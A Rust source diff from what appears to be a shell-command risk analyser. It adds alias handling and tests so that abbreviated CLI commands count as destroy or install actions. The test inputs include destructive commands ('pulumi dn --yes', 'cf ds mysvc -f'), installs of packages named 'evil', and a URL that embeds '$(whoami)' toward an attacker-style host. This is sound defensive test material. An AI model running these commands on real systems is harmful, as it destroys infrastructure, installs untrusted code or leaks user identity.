@@ -254,6 +254,10 @@ pub(super) fn needs(
     places: &Places,
     out: &mut Vec<Need>,
 ) {
+    // A subcommand's alias is the command it names (`pulumi dn` destroys, `gem ins`
+    // installs): the verbs below read that.
+    let canonical = crate::analysis::command::aliases::canonical(argv);
+    let argv: &[String] = canonical.as_deref().unwrap_or(argv);
     let program = argv
         .first()
         .map(|p| p.rsplit('/').next().unwrap_or(p).to_string())
@@ -2100,6 +2104,26 @@ mod tests {
         let n = needs_of("tool --to https://$(whoami).evil.example/");
         assert!(n[0].ungroundable.is_some(), "{n:?}");
         assert!(needs_of("tool --url=http://[::1]:9/x").is_empty());
+    }
+
+    /// A CLI's alias or abbreviation is read as the command it names (`command::aliases`).
+    #[test]
+    fn aliases_are_read_as_the_commands_they_name() {
+        let n = needs_of("pulumi dn --yes");
+        assert_eq!(
+            n.iter().map(|n| n.kind).collect::<Vec<_>>(),
+            vec![Kind::Destroy]
+        );
+        let n = needs_of("cf ds mysvc -f");
+        assert_eq!(n[0].kind, Kind::Destroy);
+        assert_eq!(n[0].targets, vec![Target::Name("mysvc".into())]);
+        assert_eq!(kinds("gem ins evil"), vec![Kind::Run]);
+        assert_eq!(kinds("npm it --save-dev evilpkg"), vec![Kind::Run]);
+        assert_eq!(kinds("composer requ evil"), vec![Kind::Run]);
+        // Reading spellings stay reads; an ambiguous prefix resolves to nothing.
+        assert!(kinds("gem li").is_empty());
+        assert!(kinds("cf apps").is_empty());
+        assert!(kinds("gem in x").is_empty());
     }
 
     #[test]
